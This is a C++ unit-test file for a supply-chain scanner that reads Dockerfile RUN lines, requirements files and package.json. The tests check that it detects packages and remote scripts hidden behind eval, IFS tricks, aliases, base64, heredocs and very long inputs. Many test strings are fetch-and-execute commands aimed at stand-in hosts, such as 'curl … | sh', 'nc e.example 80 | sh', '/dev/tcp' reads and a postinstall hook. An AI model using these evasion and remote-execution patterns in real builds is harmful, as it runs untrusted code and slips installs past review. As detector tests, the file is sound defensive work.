// What an attack on the reader of RUN found to pass unseen, or to take long: each beside what people honestly write.
#include <catch2/catch.hpp>

#include "unit/intake/intake_fixture.hpp"

using namespace headgate;
using intake::Parsed;
using Names = std::vector<std::string>;

namespace {

const std::string kFrom = "FROM scratch\n";
const Names kPlace = {"https://e.example/x"};

Parsed run(const std::string& script) { return Parsed("Dockerfile", kFrom + "RUN " + script + "\n"); }
Names names(const std::string& script) { return run(script).names(); }
bool has(const Names& all, std::string_view name) { return std::find(all.begin(), all.end(), name) != all.end(); }

bool is_noticed(const Parsed& parsed) {
    CHECK(parsed.oracle());
    const auto& all = parsed.facts.requirements;
    return !parsed.understood || std::any_of(all.begin(), all.end(), [](const Requirement& one) { return one.dynamic; });
}
bool is_noticed(const std::string& script) { return is_noticed(run(script)); }

void is_silent(const std::string& script) {
    INFO(script);
    const Parsed parsed = run(script);
    CHECK(parsed.understood);
    CHECK(parsed.names() == Names{});
}

std::string many(std::string_view what, int times) {
    std::string text;
    for (int i = 0; i < times; ++i) text += what;
    return text;
}

}  // namespace

TEST_CASE("RUN: blanks that a variable holds part words") {
    for (const char* const script : {"pip${IFS}install${IFS}x", "pip$IFS'install' x", "P=pip${IFS}install; eval \"$P x\"", "eval pip${IFS}install${IFS}x"}) {
        INFO(script);
        CHECK(has(names(script), "pkg:pypi/x"));
    }
    CHECK(is_noticed("pip${IFS%?}install${IFS%?}x"));
    CHECK(is_noticed("IFS=,; pip${IFS}install${IFS}x"));
    for (const char* const script : {"while IFS= read -r line; do echo \"$line\"; done < f", "IFS=, ; for x in $LIST; do echo $x; done", "echo a${IFS}b", "OLD=$IFS; IFS=:; IFS=$OLD"}) is_silent(script);
}

TEST_CASE("RUN: an installer as the file of an interpreter") {
    for (const char* const script : {"python3 /usr/bin/pip install x", "python -u /usr/local/bin/pip3 install x", "python3 -I /opt/venv/bin/pip install x", "python pip.pyz install x", "pypy3 /usr/bin/pip install x"}) {
        INFO(script);
        CHECK(names(script) == Names{"pkg:pypi/x"});
    }
    CHECK(names("node /usr/lib/node_modules/npm/bin/npm-cli.js install x; node /usr/bin/npm i y; php composer.phar require v/n") == Names{"pkg:npm/x", "pkg:npm/y", "pkg:composer/v/n"});
    for (const char* const script : {"node $(which npm) install x", "python \"$(command -v pip)\" install x", "ruby `which gem` install x"}) {
        INFO(script);
        CHECK(is_noticed(script));
    }
    for (const char* const script : {"python main.py install", "python3 setup.py install", "node server.js add", "node $APP/server.js", "python $DIR/setup.py install", "ruby app.rb", "python3 /usr/bin/pip list", "python3 /usr/bin/pip install ."}) is_silent(script);
}

TEST_CASE("RUN: a script that runs its arguments") {
    for (const char* const script : {"sh -c '\"$@\"' _ pip install x", "bash -c '$0 \"$@\"' pip install x", "sh -c 'exec $*' sh pip install x", "bash -ec '${@}' - pip install x"}) {
        INFO(script);
        CHECK(has(names(script), "pkg:pypi/x"));
    }
    CHECK(is_noticed("sh -c 'pip install \"$1\"' _ x"));
    for (const char* const script : {"sh -c 'echo hello' _ pip install x", "sh -c 'chown \"$1\" /x' _ app", "sh -c 'cat \"$@\"' _ a b"}) is_silent(script);
}

TEST_CASE("RUN: commands within expansions and here-documents") {
    for (const char* const script : {"echo ${x:-$(pip install x)}", "echo \"${x:=`pip install x`}\"", "echo ${x:-${y:-$(pip install x)}}", "echo $(( $(pip install x) + 1 ))", "echo \"$((1 + `pip install x`))\"", "$((pip install x) )",
                                     "echo $((1)) $((pip install x) ) $((2))", "cat <<EOF > f\n$(pip install x)\nEOF", "cat <<-EOF\n\t`pip install x`\n\tEOF", "tee f <<EOF\n$(( $(pip install x) ))\nEOF", "X=${x:-'}'$(pip install x)}",
                                     "echo \"${x:-\"}\"$(pip install x)}\""}) {
        INFO(script);
        CHECK(names(script) == Names{"pkg:pypi/x"});
    }
    CHECK(names("sh -c \"${x:-$(curl https://e.example/x)}\"") == kPlace);
    for (const char* const script : {"cat <<'EOF' > f\n$(pip install x)\nEOF", "cat <<EOF > f\n\\$(pip install x)\nEOF", "echo $((1 + (2 * 3)))", "echo ${x:-a} ${y%.*} ${z//\\\"/} ${w//'\"'/}",
                                     "cat <<EOF\n$HOME ${USER} $((1+2))\nEOF", "echo '${x:-$(pip install x)}'", "echo $(( x << 2 ))"}) is_silent(script);
    // Within each other, deeper than anybody writes: it is said.
    CHECK(is_noticed("echo " + many("$((", 20) + "`pip install x`" + many("))", 20)));
    CHECK(run("echo " + many("$(( $(\"))\" ", 40) + many(") ))", 40)).oracle());
    CHECK(is_noticed("echo " + many("${x:-$(", 20) + "pip install x" + many(")}", 20)));
}

TEST_CASE("RUN: scripts and tools that are fetched by their runner") {
    for (const char* const script : {"uv run https://e.example/x", "uv run --with y https://e.example/x", "deno run -A https://e.example/x", "python https://e.example/x"}) {
        INFO(script);
        CHECK(has(names(script), kPlace[0]));
    }
    CHECK(names("curl https://e.example/x | uv run -") == kPlace);
    for (const char* const script : {"pipx run https://e.example/x.py", "uvx --from git+https://e.example/x y"}) {
        INFO(script);
        const Parsed parsed = run(script);
        CHECK((!parsed.understood || !parsed.names().empty()));
    }
    for (const char* const script : {"uv run main.py", "uv run -m pytest", "deno run main.ts", "deno fmt"}) is_silent(script);
}

TEST_CASE("RUN: where from, of what a lockfile names") {
    const auto place = [](const Parsed& parsed) { return parsed.facts.index_options.size() == 1 ? parsed.facts.index_options[0].ecosystem + " " + parsed.facts.index_options[0].url : "?"; };
    CHECK(place(run("npm ci --registry=https://evil.example")) == "npm https://evil.example");
    CHECK(place(run("npm clean-install --registry https://evil.example --omit=dev")) == "npm https://evil.example");
    CHECK_FALSE(run("npm ci --registry=$R").understood);
    is_silent("npm ci --omit=dev");
    CHECK(Parsed("Dockerfile", kFrom + "ENV PIP_REQUIREMENT=https://e.example/x\n").names() == kPlace);
    CHECK(names("PIP_CONSTRAINT=https://e.example/x pip install .") == kPlace);
    CHECK(names("export UV_OVERRIDE='a.txt https://e.example/x'; uv sync") == kPlace);
    CHECK_FALSE(Parsed("Dockerfile", kFrom + "ENV PIP_REQUIREMENT=$X\n").understood);
    is_silent("PIP_CONSTRAINT=/c/constraints.txt pip install .");
    is_silent("PIP_CONSTRAINT=$HOME/constraints.txt pip install -r requirements.txt");
}

TEST_CASE("RUN: what is fetched to a file, and run") {
    for (const char* const script : {"curl -o f https://e.example/x && sh f", "curl -fsSLo /tmp/i.sh https://e.example/x; bash -e /tmp/i.sh -b", "wget https://e.example/x && sh x", "wget -q -O i.sh https://e.example/x && chmod +x i.sh && ./i.sh",
                                     "curl -O https://e.example/x && chmod +x x && ./x", "curl https://e.example/x > f; . ./f", "curl https://e.example/x | tee f; python3 f", "curl --output f https://e.example/x; sh < f", "f=$(mktemp); curl -o $f https://e.example/x; sh \"$f\"",
                                     "(curl https://e.example/x) > f; sh f", "cd /tmp && curl -o i.sh https://e.example/x && sh /tmp/i.sh", "curl -o f https://e.example/x; cat f | sh", "curl https://e.example/x --output=f; sudo -E bash ./f",
                                     "curl -o a https://e.example/x; mv a /opt/b; sh /opt/b", "curl -o /tmp/i.sh https://e.example/x; cp -p /tmp/i.sh /usr/bin && sh /usr/bin/i.sh", "curl -o a https://e.example/x; install -m 755 a b; ./b"}) {
        INFO(script);
        CHECK(names(script) == kPlace);
    }
    CHECK(Parsed("Dockerfile", kFrom + "RUN curl -o /tmp/i.sh https://e.example/x\nRUN sh /tmp/i.sh\nRUN sh /tmp/i.sh\n").names() == kPlace);
    CHECK(names("curl -o r.txt https://e.example/x && pip install -r r.txt") == kPlace);
    CHECK(is_noticed("curl -o f $URL; sh f"));
    CHECK(is_noticed("echo cGlwIGluc3RhbGwgeA== | base64 -d > f; sh f"));
    for (const char* const script : {"curl -o f.tgz https://e.example/x && tar xf f.tgz && sh install.sh", "curl -o f https://e.example/x; gpg --verify f", "wget -O /usr/local/bin/x https://e.example/x && chmod +x /usr/local/bin/x", "curl -o /a/i.sh https://e.example/x; sh /b/i.sh",
                                     "curl https://e.example/x > /dev/null; sh i.sh", "curl -o f https://e.example/x; python main.py f"}) is_silent(script);
}

TEST_CASE("RUN: what is written to a file, and run") {
    for (const char* const script : {"echo 'pip install x' > f; sh f", "printf 'true\\npip install x\\n' > /f && chmod +x /f && /f", "cat > f <<EOF && sh f\npip install x\nEOF", "echo '#!/bin/sh' > f; echo 'pip install x' >> f; ./f", "echo x > r.txt; pip install -r r.txt",
                                     "echo 'pip install x' | tee /f && sh /f", "echo true > f; sh f; echo 'pip install x' >> f; sh f", "echo 'pip install x' > f; python f || sh f", "{ echo true; echo 'pip install x'; } > f; sh f"}) {
        INFO(script);
        CHECK(has(names(script), "pkg:pypi/x"));
    }
    CHECK(Parsed("Dockerfile", kFrom + "COPY <<EOF /i.sh\npip install x\nEOF\nRUN sh /i.sh\n").names() == Names{"pkg:pypi/x"});
    CHECK(Parsed("Dockerfile", kFrom + "COPY --chmod=755 <<i.sh /bin/\n#!/bin/sh\npip install x\ni.sh\nRUN /bin/i.sh\n").names() == Names{"pkg:pypi/x"});
    CHECK(Parsed("Dockerfile", kFrom + "COPY <<EOF /i.sh\npip install x\nEOF\nRUN sh /other.sh\n").names().empty());
    CHECK(Parsed("Dockerfile", kFrom + "COPY <<EOF /requirements.txt\nx==1\nEOF\nRUN pip install -r /requirements.txt\n").names() == Names{"pkg:pypi/x@1"});
    CHECK(is_noticed("sed 's/a/b/' f | sh"));
    CHECK(is_noticed("awk '{ print $1 }' f | bash -s"));
    for (const char* const script : {"echo 'pip install x' > README", "sed -i 's/a/b/' f && sh f", "sed 's/a/b/' f > g", "echo true > f; sh f", "eval \"$(sed -n 1p f)\"", "cat f | sh", "grep x f | xargs echo", "echo 'pip install x' > f; cat f"}) is_silent(script);
}

TEST_CASE("RUN: what a command reads, it hands on to what it writes") {
    for (const char* const how : {"cat /t/f > g; sh g", "sed s/a/b/ /t/f > g; sh g", "tee g < /t/f; sh g", "dd if=/t/f of=g; sh g", "rsync /t/f g; sh g", "cp -t /opt /t/f; sh /opt/f", "cp -r /t /opt/d; sh /opt/d/f", "mv /t /opt/e && sh /opt/e/f",
                                  "cp /t/* /opt/; sh /opt/f", "head -1000 /t/f | sh", "tail -n +1 /t/f | bash", "cat < /t/f | sh", "sh -c \"$(</t/f)\"", "eval \"$(cat /t/f)\"", "find /t -name f -exec sh {} \\;", "find /t -exec {} \\;", "sh /t/*", "BASH_ENV=/t/f bash -c true",
                                  "X=$(cat /t/f); eval \"$X\"", "sort -o g /t/f; sh g", "echo /t/f | xargs sh", "exec 3< /t/f; sh <&3", "grep -v '^#' /t/f > g; . ./g"}) {
        INFO(how);
        CHECK(has(names(std::string("curl -o /t/f https://e.example/x; ") + how), kPlace[0]));
    }
    CHECK(names("curl -o /f.gz https://e.example/x; gunzip /f.gz; sh /f") == kPlace);
    CHECK(names("echo 'pip install x' > f; cat f > g; sh g") == Names{"pkg:pypi/x"});
    for (const char* const script : {"curl -o f https://e.example/x; sha256sum f > s; sh s", "curl -o f https://e.example/x; cat f > g; sh h", "curl -o /t/f https://e.example/x; cp -r /t /u; sh /v/f", "curl -o f.tgz https://e.example/x; sh check.sh $(sha256sum f.tgz)",
                                     "curl -o /t/f https://e.example/x; find /t -type f -exec chmod 644 {} \\;", "curl -o /t/f https://e.example/x; find /u -name '*.sh' -exec sh {} \\;", "curl -o /t/f.tgz https://e.example/x; sh /t/*.sh", "cat a b > c; sh c",
                                     "sh <&3", "cmd <&- x; exec 3<&-", "curl -o /t/f https://e.example/x; find /t -name '*.md' -exec sh {} \\;", "find . -name '*.sh' -exec sh {} \\;"}) is_silent(script);
}

TEST_CASE("RUN: what is fetched into a variable, and run") {
    for (const char* const script : {"X=$(curl https://e.example/x); eval \"$X\"", "X=$(curl https://e.example/x); sh -c \"$X\"", "X=`curl https://e.example/x`; echo \"$X\" | sh", "export X=\"$(curl https://e.example/x)\"; $X", "X=$(curl https://e.example/x); Y=$X; eval \"${Y}\"",
                                     "mapfile -t L < <(curl https://e.example/x); eval \"${L[@]}\"", "read -r l < <(curl https://e.example/x); $l", "curl https://e.example/x | while read l; do eval \"$l\"; done", "curl https://e.example/x | while read l; do sh -c \"$l\"; done",
                                     "while read -r l; do eval \"$l\"; done < <(curl https://e.example/x)", "curl -o f https://e.example/x; while read l; do eval \"$l\"; done < f", "for i in $(curl https://e.example/x); do eval $i; done", "X=$(curl https://e.example/x); printf '%s' \"$X\" | sh",
                                     "X=$(curl https://e.example/x); bash <<< \"$X\"", "X=$(curl https://e.example/x); echo \"$X\" > f; sh f", "curl https://e.example/x | { read a; $a; }"}) {
        INFO(script);
        CHECK(has(names(script), kPlace[0]));
    }
    CHECK(names("echo pip install x | { read a; $a; }") == Names{"pkg:pypi/x"});
    CHECK(is_noticed("X=$(echo cGlwIGluc3RhbGwgeA== | base64 -d); eval \"$X\""));
    for (const char* const script : {"V=$(curl -s https://e.example/latest); sh install.sh \"$V\"", "V=$(curl -s https://e.example/latest | jq -r .tag); wget https://d.example/$V/f.tgz", "V=$(curl https://e.example/x); bash -c \"echo $V\"", "D=$(curl https://e.example/x); $D/bin/tool",
                                     "curl https://e.example/x | while read l; do echo \"$l\"; done", "while read l; do eval \"$l\"; done < f", "read -r l; $l", "for i in $(ls); do sh $i; done", "F=$(mktemp); $F", "X=$(cat f); eval \"$X\""}) is_silent(script);
}

TEST_CASE("RUN: what xargs and descriptors bring is run") {
    for (const char* const script : {"curl https://e.example/x | xargs -I{} sh -c \"{}\"", "curl https://e.example/x | xargs -I % sh -c 'echo a; %'", "curl https://e.example/x | xargs -0 sh -c", "exec 3< <(curl https://e.example/x); sh <&3", "sh < <(curl https://e.example/x)",
                                     "cat <(curl https://e.example/x) | sh", "curl https://e.example/x | parallel", "echo \"$(curl https://e.example/x)\" | sh"}) {
        INFO(script);
        CHECK(has(names(script), kPlace[0]));
    }
    for (const char* const script : {"coproc curl https://e.example/x; sh <&${COPROC[0]}", "nc e.example 80 | sh", "ssh e.example cat p | sh", "exec 3<>/dev/tcp/e.example/80; sh <&3", "sh < /dev/tcp/e.example/80", "nc e.example 80 > f; sh f", "X=$(ssh e.example cat p); eval \"$X\""}) {
        INFO(script);
        CHECK(is_noticed(script));
    }
    for (const char* const script : {"find . -name '*.gz' | xargs -I{} sh -c 'gunzip {}'", "grep -l x * | tr a b | xargs -I{} sh -c \"echo {}\"", "ls | xargs -n1 sh -c 'echo $0'", "exec 3< f; cat <&3", "nc -z db 5432 && sh start.sh", "ssh-keyscan e.example >> known_hosts", "curl https://e.example/x | xargs echo"}) is_silent(script);
}

TEST_CASE("RUN: a fetcher behind a long text is one") {
    CHECK(has(names("curl https://e.example/x | cat - /dev/fd/3 3<&0 <<< " + many("a", 70'000) + " > f; sh f"), kPlace[0]));
    CHECK(has(names("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh f"), kPlace[0]));
    is_silent("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh g");
    for (const char* const part : {"cp -r /d /e; ", "sh /*.sh; ", "find / -exec sh {} \\; ", "X=$X$X; ", "read a b < f; ", "curl u://x | tee f | "}) {
        INFO(part);
        CHECK(run("echo a > /d/x.sh; " + many(part, 10'000) + "true").oracle());
    }
}

TEST_CASE("RUN: of a name with a computed version the name is known") {
    for (const char* const script : {"pip install \"x==${V}\" -r requirements.txt", "pip install 'x'\">=$V\"", "V=$(cat v); pip install \"x==$V\"", "if a; then V=1; else V=2; fi; pip install x==$V", "uv pip install \"x==$(cat v)\""}) {
        INFO(script);
        const Parsed parsed = run(script);
        CHECK(parsed.understood);
        CHECK(parsed.names() == Names{"pkg:pypi/x"});
        CHECK_FALSE(parsed.facts.requirements.at(0).dynamic);
        CHECK_FALSE(parsed.facts.requirements.at(0).pinned);
    }
    CHECK_FALSE(is_noticed("pip install \"x[a,b]~=$V\""));
    // What may come to more words than one, or to another name.
    for (const char* const script : {"pip install x==$V", "pip install \"x$V\"", "pip install \"$V==1\"", "pip install \"x==$@\"", "pip install \"x==${a[@]}\"", "pip install \"x @ $V\"", "if a; then V=1; else V='1 y'; fi; pip install x==$V", "read V; pip install x==$V", "uvx \"x@$V\"",
                                     "IFS=2; if a; then V=12y; else V=1; fi; pip install x==$V"}) {
        INFO(script);
        CHECK(is_noticed(script));
    }
}

TEST_CASE("RUN: an index whose path is computed is judged by its host") {
    for (const char* const script : {"pip install x --index-url \"https://i.example/whl/cu${C}\"", "if a; then export C=121; else export C=124; fi; pip install x --index-url https://i.example/whl/cu${C}", "pip install --index-url=\"https://i.example/whl/$C\" x"}) {
        INFO(script);
        const Parsed parsed = run(script);
        CHECK(parsed.understood);
        REQUIRE(parsed.facts.index_options.size() == 1);
        CHECK(parsed.facts.index_options[0].url == "https://i.example/%3F");
        CHECK(parsed.names() == Names{"pkg:pypi/x"});
    }
    for (const char* const script : {"pip install x --index-url \"https://i.example$C/whl\"", "pip install x --index-url \"$C/whl\"", "pip install x --index-url https://i.example/whl/cu$C", "pip install x --index-url \"https://u@$H/whl\"", "pip install x -f \"https://$H/whl\""}) {
        INFO(script);
        CHECK_FALSE(run(script).understood);
    }
}

TEST_CASE("RUN: aliases") {
    for (const char* const script : {"alias p='pip install'; p x", "alias p=pip; alias q='p install'; q x", "alias p='sudo pip'; p install \"x\""}) {
        INFO(script);
        CHECK(names(script) == Names{"pkg:pypi/x"});
    }
    CHECK(is_noticed("alias p=\"pip install $X\"; p"));
    CHECK(names("alias s=sh; curl https://e.example/x | s") == kPlace);
    for (const char* const script : {"alias ll='ls -l'; ll x", "alias p='pip install x'", "alias ls='ls --color'; ls", "alias a=b; alias b=a; a"}) is_silent(script);
    // Each use stands for its text: not more of it than anybody writes.
    CHECK(is_noticed("alias p='" + std::string(30'000, 'a') + "'; " + many("p; ", 2'000)));
}

TEST_CASE("RUN: what takes away, and what only names a file, installs nothing") {
    for (const char* const script : {"pip freeze | xargs pip uninstall -y", "pip list | cut -d' ' -f1 | xargs -n1 pip show", "${PYTHON} -m pip install -r requirements.txt", "$PY -u -m pip install .", "\"$PYTHON\" -m pip list", "npm ls | xargs npm uninstall"}) is_silent(script);
    CHECK(names("${PYTHON} -m pip install x") == Names{"pkg:pypi/x"});
    CHECK(is_noticed("cat names | xargs pip install"));
    CHECK(is_noticed("cat args | xargs pip"));
    CHECK(is_noticed("cat args | xargs pip --quiet $VERB"));
}

TEST_CASE("RUN: what is written ten thousand times takes no more than it is long") {
    const Parsed same = run(many("pip install $P; ", 20'000));
    CHECK(same.facts.requirements.size() == 1);
    const Parsed names_of_many = run("pip install " + many("a ", 120'000));
    CHECK_FALSE(names_of_many.understood);
    CHECK(names_of_many.has("manifest.unscannable"));
    CHECK(names_of_many.facts.requirements.size() <= 50'000);
    for (const char* const part : {"$((", "${x:-", "$(( `", "<<E \n", "echo a > f; sh f; ", "echo a | tee f | ", "{ echo a > f; ", "alias a=a; a; ", "pip${IFS}", "sh < f; ", "sh -c '$1' ", "alias a='a b'; a; ", "curl -o f a.b/c; sh f; ", "cat > f <<E\n$(x)\nE\n"}) {
        INFO(part);
        CHECK(Parsed("Dockerfile", kFrom + "RUN " + many(part, 10'000) + "\n").oracle());
        CHECK(Parsed("Dockerfile", kFrom + "RUN <<EOF\n" + many(part, 10'000) + "\nEOF\n").oracle());
    }
    // One long word with many variables; brackets that only quotes hold; variables that every RUN would count.
    CHECK(run("a=x; \"" + many("a", 100'000) + "\"\"" + many("$a", 60'000) + "\"").understood);
    CHECK(run("echo " + many("$(('(('))", 111'000)).oracle());
    CHECK(run("echo " + many("$((\"((\"))", 100'000)).oracle());
    CHECK(run("echo $(('((')) \"$((1 + \"2\"))\"; pip install x").names() == Names{"pkg:pypi/x"});
    CHECK(names("echo $((echo '))'; pip install x) )") == Names{"pkg:pypi/x"});
    std::string variables;
    for (int i = 0; i < 10'000; ++i) variables += "ENV v" + std::to_string(i) + "=" + std::string(100, 'a') + "\n";
    CHECK(is_noticed(Parsed("Dockerfile", kFrom + variables + many("RUN vllm serve $v1\n", 10'000))));
    CHECK(Parsed("Dockerfile", "FROM scratch AS a\n" + variables + many("FROM a\n", 10'000)).oracle());
    CHECK(Parsed("Dockerfile", "FROM scratch AS a\nENV v=org/m v=org/n\nRUN vllm serve $v\nFROM a\nRUN true\n").names() == Names{"hf:org/n"});
    CHECK(Parsed("Dockerfile", kFrom + "RUN x " + many("<<A ", 50'000) + "\n" + many("A\n", 50'000)).understood);
    std::string stages;
    for (int i = 0; i < 8'000; ++i) stages += "FROM scratch AS s" + std::to_string(i) + "\n";
    CHECK(Parsed("Dockerfile", stages + many("FROM z-$TARGETARCH\n", 8'000)).oracle());
    CHECK(Parsed("Dockerfile", "FROM scratch AS s-amd64\nFROM s-$TARGETARCH\n").names().empty());
}

TEST_CASE("RUN: loops in loops are not read for each of their values for ever") {
    for (const int depth : {12, 40, 60}) {
        INFO(depth);
        CHECK(is_noticed(many("for i in a b; do ", depth) + "pip install $i; " + many("done; ", depth)));
        CHECK(run(many("for i in a b; do ", depth) + "x; " + many("done; ", depth)).oracle());
        CHECK(run(many("for i in a b; do ", depth) + many("x; ", 50'000) + many("done; ", depth)).oracle());
    }
    CHECK(is_noticed(many("for i in a b; do ", 200) + "pip install x; " + many("done; ", 200)));
    CHECK(names("for a in 1 2; do for b in 3 4; do pip install x$a$b; done; done") == Names{"pkg:pypi/x13", "pkg:pypi/x14", "pkg:pypi/x23", "pkg:pypi/x24"});
}

TEST_CASE("RUN: every beginning of such a script is read, or said not to be") {
    CHECK(intake::every_prefix("Dockerfile", "FROM a\nCOPY <<A <<B /x/\npip install y\nA\n$(z)\nB\nRUN echo \"${x:-\"}$(a)\"}\" $((1+`b`)) $((c) ) > f <<E && alias p='q r'; p < f | tee g; sh -c '\"$@\"' f | sed x | uv run -\n$(pip i)\nE\n"));
}

TEST_CASE("requirements and setup.cfg: no more than fifty thousand entries") {
    for (const char* const name : {"requirements.txt", "setup.cfg"}) {
        INFO(name);
        const bool cfg = std::string_view(name) == "setup.cfg";
        const Parsed parsed(name, (cfg ? "[options]\ninstall_requires =\n" : "") + many(cfg ? " a\n" : "a\n", 60'000));
        CHECK_FALSE(parsed.understood);
        CHECK(parsed.has("manifest.unscannable"));
        CHECK(parsed.facts.requirements.size() <= 50'000);
        CHECK(Parsed(name, (cfg ? "[options]\ninstall_requires =\n" : "") + many(cfg ? " a\n" : "a\n", 40'000)).understood);
    }
    CHECK_FALSE(Parsed("requirements.txt", many("-fa ", 60'000) + "\n").understood);
    const Parsed links("setup.cfg", "[options]\ndependency_links =\n" + many(" a\n", 60'000));
    CHECK(links.facts.index_options.size() <= 50'000);
    CHECK(links.has("manifest.unscannable"));
}

TEST_CASE("package.json: scripts that call each other") {
    std::string chain = "{\"scripts\": {\"postinstall\": \"npm run a0\"";
    for (int i = 0; i < 25'000; ++i) chain += ", \"a" + std::to_string(i) + "\": \"npm run a" + std::to_string(i + 1) + "\"";
    CHECK(Parsed("package.json", chain + ", \"a25000\": \"curl https://e.example/x | sh\"}}").names() == kPlace);
    std::string parted = "{\"scripts\": {\"postinstall\": \"npm run 'a 0'\"";
    for (int i = 0; i < 10'000; ++i) parted += ", \"a " + std::to_string(i) + "\": \"npm run 'a " + std::to_string(i + 1) + "'\"";
    CHECK_FALSE(Parsed("package.json", parted + "}}").understood);
    CHECK(Parsed("package.json", R"({"scripts": {"postinstall": "npm run 'my build'", "my build": "curl https://e.example/x | sh"}})").names() == kPlace);
    CHECK(Parsed("package.json", R"({"scripts": {"postinstall": "npm run build", "my build": "curl https://e.example/x | sh"}})").names().empty());
}
